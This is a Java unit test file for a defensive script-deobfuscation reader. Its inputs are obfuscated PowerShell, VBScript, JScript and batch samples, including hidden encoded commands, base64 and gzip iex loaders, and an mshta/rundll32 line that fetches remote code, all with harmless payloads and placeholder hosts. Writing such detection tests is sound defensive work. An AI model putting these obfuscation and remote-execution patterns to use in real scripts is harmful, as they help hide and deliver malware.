package io.ashiato.readers.script;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.argumentSet;

import io.ashiato.bytes.ByteSource;
import io.ashiato.bytes.Damage;
import io.ashiato.model.EvidenceKind;
import io.ashiato.model.Facts;
import io.ashiato.readers.ArtefactReading;
import io.ashiato.readers.Mutations;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.util.Base64;
import java.util.List;
import java.util.Objects;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments.ArgumentSet;
import org.junit.jupiter.params.provider.FieldSource;

class ScriptReaderTest {
    private static final String URL = "https://short.example.com/x";
    private static final String HARMLESS = "Write-Output 'harmless'";

    static final List<ArgumentSet> HIDDEN = List.of(
            argumentSet("PowerShell, encoded", "powershell.exe -w hidden -enc " + utf16(HARMLESS), HARMLESS),
            argumentSet("PowerShell, -e", "powershell -nop -e " + utf16(HARMLESS), HARMLESS),
            argumentSet("PowerShell, full name", "pwsh -EncodedCommand \"" + utf16(HARMLESS) + "\"", HARMLESS),
            argumentSet("encoded twice", "powershell -enc " + utf16("powershell -enc " + utf16(HARMLESS)), HARMLESS),
            argumentSet("PowerShell, plus", "$u = 'https://sho' + 'rt.example' + '.com/x'", URL),
            argumentSet("PowerShell, format", "$u = '{1}{0}' -f '.com/x','https://short.example'", URL),
            argumentSet("PowerShell, -replace", "$u = 'httpsQQ//short.example.com/x' -replace 'QQ',':'", URL),
            argumentSet("PowerShell, Replace", "$u = 'https://shZrt.example.com/x'.Replace('Z','o')", URL),
            argumentSet("PowerShell, -join", "$u = ('https:','','short.example.com','x') -join '/'", URL),
            argumentSet("PowerShell, [char]", "$u = [char]104+[char]0x74+'tps://short.example.com/x'", URL),
            argumentSet("PowerShell, [char[]]", "$u = -join [char[]](104,105,33,33,33)", "hi!!!"),
            argumentSet("PowerShell, piped codes", "$u = (104,105,33|%{[char]$_}) -join ''", "hi!"),
            argumentSet(
                    "PowerShell, hex", "$u = ('68 69 21'.split(' ')|%{[char][convert]::toint16($_,16)})-join''", "hi!"),
            argumentSet("PowerShell, xor", "$u = (73,72|%{[char]($_ -bxor 0x21)}) -join ''", "hi"),
            argumentSet("PowerShell, reversed", "$u = 'x/moc.elpmaxe.trohs//:sptth'[-1..-27] -join ''", URL),
            argumentSet("PowerShell, variables", "$a = 'https://short'\n$b = '.example.com/x'\niwr ($a + $b)", URL),
            argumentSet(
                    "PowerShell, base64",
                    "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + base64(URL.getBytes(UTF_8))
                            + "')))",
                    URL),
            argumentSet(
                    "PowerShell, gzip",
                    "$d = [Convert]::FromBase64String('" + base64(gzip(HARMLESS)) + "')\n"
                            + "$s = New-Object IO.Compression.GzipStream($d)",
                    HARMLESS),
            argumentSet(
                    "PowerShell, deflate",
                    "$d = [Convert]::FromBase64String('" + base64(deflate(HARMLESS)) + "')\n"
                            + "$s = New-Object IO.Compression.DeflateStream($d)",
                    HARMLESS),
            argumentSet("VBScript, Chr", "MsgBox Chr(104) & ChrW(&H69) & Chr(30+3)", "hi!"),
            argumentSet("VBScript, StrReverse", "Dim u\nMsgBox StrReverse(\"x/moc.elpmaxe.trohs//:sptth\")", URL),
            argumentSet(
                    "VBScript, Replace",
                    "On Error Resume Next\nu = Replace(\"https://shQrt.example.com/x\", \"Q\", \"o\")",
                    URL),
            argumentSet(
                    "VBScript, Join", "Dim u\nMsgBox Join(Array(\"https://short\",\"example\",\"com/x\"), \".\")", URL),
            argumentSet("JScript, codes", "var u = String.fromCharCode(104, 105, 0x21);", "hi!"),
            argumentSet("JScript, escapes", "var u = \"\\x68\\u0069\\x21\";", "hi!"),
            argumentSet(
                    "JScript, reversed", "var u = 'x/moc.elpmaxe.trohs//:sptth'.split('').reverse().join('');", URL),
            argumentSet("JScript, pattern", "var u = 'h9#i9#!'.replace(/9#/g, '');", "hi!"),
            argumentSet("JScript, unescape", "eval(unescape('%68%69%21'));", "hi!"),
            argumentSet("JScript, atob", "eval(atob('" + base64("alert(1);".getBytes(UTF_8)) + "'));", "alert(1);"),
            argumentSet("batch, variables", "@echo off\nset a=https\nset b=short\ncurl %a%://%b%.example.com/x", URL),
            argumentSet("batch, part", "@echo off\nset a=XXhiYY\necho %a:~2,2%", "hi"),
            argumentSet("batch, replaced", "@echo off\nset a=hQi\necho %a:Q=%", "hi"),
            argumentSet("command line, delayed", "cmd.exe /v /c \"set a=hi&&echo !a!\"", "hi"));

    @ParameterizedTest
    @FieldSource("HIDDEN")
    void whatIsHiddenIsToldInTheEnd(String script, String hidden) throws IOException {
        Facts facts = read(script).facts();

        assertThat(facts.text("decoded")).contains(hidden);
        assertThat(facts.texts("techniques")).isNotEmpty();
        assertThat(facts.texts("urls")).isEqualTo(hidden.startsWith("https") ? List.of(URL) : List.of());
    }

    static final List<ArgumentSet> PLAIN = List.of(
            argumentSet("PowerShell", "$path = 'C:\\Temp'\nif ($path) { Remove-Item ($path) }"),
            argumentSet("VBScript", "Dim a\na = \"text\"\nMsgBox a"),
            argumentSet("JScript", "var a = ['x', 'y'];\nalert(a);"),
            argumentSet("batch", "@echo off\nset a=1\necho %PATH% 100%"),
            argumentSet("a command", "C:\\Windows\\System32\\cmd.exe /c dir \\\\dav.example.com@SSL@8443\\share\\a"));

    /// A script that hides nothing has no layers.
    @ParameterizedTest
    @FieldSource("PLAIN")
    void plainScriptsComeOutUnchanged(String script) throws IOException {
        ArtefactReading reading = read(script);

        assertThat(reading.children()).isEmpty();
        assertThat(reading.facts().text("decoded")).isEmpty();
        assertThat(reading.facts().number("layers")).hasValue(0);
    }

    /// Each layer is the child of the one above, down to the last.
    @Test
    void layersLieInOneAnother() throws IOException {
        String inner = "$u = 'https://short' + '.example.com/x'";
        ArtefactReading outer = read("powershell -enc " + utf16(inner));
        ArtefactReading first = ScriptReader.read(outer.children().getFirst().content(), EvidenceKind.SCRIPT);
        ArtefactReading second = ScriptReader.read(first.children().getFirst().content(), EvidenceKind.SCRIPT);

        assertThat(outer.facts().number("layers")).hasValue(2);
        assertThat(outer.facts().texts("techniques")).containsExactly("encoded_command", "string_concatenation");
        assertThat(outer.children().getFirst().role()).isEqualTo(ArtefactReading.Role.DECODED);
        assertThat(text(outer)).isEqualTo(inner);
        assertThat(text(first)).isEqualTo("$u = '" + URL + "'");
        assertThat(second.children()).isEmpty();
    }

    @Test
    void programsSharesAndAddressesAreNamed() throws IOException {
        Facts facts = read("cmd.exe /c start /b mshta http://192.0.2.7/a & rundll32 \\\\files.example.com\\s\\a.dll,x")
                .facts();

        assertThat(facts.texts("commands")).containsExactly("cmd.exe", "mshta.exe", "rundll32.exe");
        assertThat(facts.texts("urls")).containsExactly("http://192.0.2.7/a");
        assertThat(facts.texts("addresses")).containsExactly("192.0.2.7");
        assertThat(facts.texts("shares")).containsExactly("\\\\files.example.com\\s\\a.dll,x");
    }

    static final List<ArgumentSet> NO_SCRIPTS = List.of(
            argumentSet("prose", "Use Get-Process to see what runs. Then call me.\nRegards, Kei\n"),
            argumentSet("log", "2021-05-04 03:02:01 INFO powershell.exe -enc AAAA\n2021-05-04 03:02:02 INFO done\n"),
            argumentSet("web log", "192.0.2.1 - - [04/May/2021:03:02:01 +0900] \"GET /?q=@echo off HTTP/1.1\" 200 1\n"),
            argumentSet("settings", "[Unit]\nName=x\nset=y\n"),
            argumentSet("source", "int main(void) {\n    return 0;\n}\n"),
            argumentSet("table", "name,value\na,1\nb,2\n"));

    @ParameterizedTest
    @FieldSource("NO_SCRIPTS")
    void otherTextsAreNoScripts(String text) {
        assertThat(ScriptReader.language(text)).isEmpty();
    }

    /// Replacements of replacements, which would fill all memory, stop growing.
    @Test
    void multiplyingReplacementsAreBounded() throws IOException {
        String script = "$u = 'aaaaaaaaaa'" + ".replace('a','aaaaaaaaaa')".repeat(40);

        assertThat(read(script).facts().text("decoded").orElse("").length()).isLessThan(5_000);
    }

    @Test
    void deepNestingEndsAtTheLimit() throws IOException {
        String script = "$u = " + "(".repeat(50_000) + "'a'" + ")".repeat(50_000);

        assertThat(read(script).facts().text("language")).contains("powershell");
    }

    @Test
    void largeTextIsReadUpToTheLimit() throws IOException {
        ArtefactReading reading = ScriptReader.read(ByteSource.of(new byte[(4 << 20) + 1]), EvidenceKind.SCRIPT);

        assertThat(reading.damage()).singleElement().isInstanceOf(Damage.OverLimit.class);
    }

    @Test
    void mutationsNeverEscape() throws IOException {
        long seed = 31;
        for (int round = 0; round < 5_000; round++) {
            ArgumentSet set = HIDDEN.get(round % HIDDEN.size());
            byte[] script = Objects.toString(set.get()[0]).getBytes(UTF_8);
            assertThat(ScriptReader.read(ByteSource.of(Mutations.of(script, seed + round))))
                    .as("seed %s, round %s, %s", seed, round, set)
                    .isNotNull();
        }
    }

    private static String text(ArtefactReading parent) throws IOException {
        return new String(parent.children().getFirst().content().first(10_000), UTF_8);
    }

    private static ArtefactReading read(String script) throws IOException {
        return ScriptReader.read(ByteSource.of(script.getBytes(UTF_8)));
    }

    private static String utf16(String text) {
        return base64(text.getBytes(UTF_16LE));
    }

    private static String base64(byte[] bytes) {
        return Base64.getEncoder().encodeToString(bytes);
    }

    private static byte[] gzip(String text) {
        var out = new ByteArrayOutputStream();
        try (OutputStream packed = new GZIPOutputStream(out)) {
            packed.write(text.getBytes(UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] deflate(String text) {
        var out = new ByteArrayOutputStream();
        var deflater = new Deflater(Deflater.DEFAULT_COMPRESSION, true);
        try (OutputStream packed = new DeflaterOutputStream(out, deflater)) {
            packed.write(text.getBytes(UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } finally {
            deflater.end();
        }
        return out.toByteArray();
    }
}
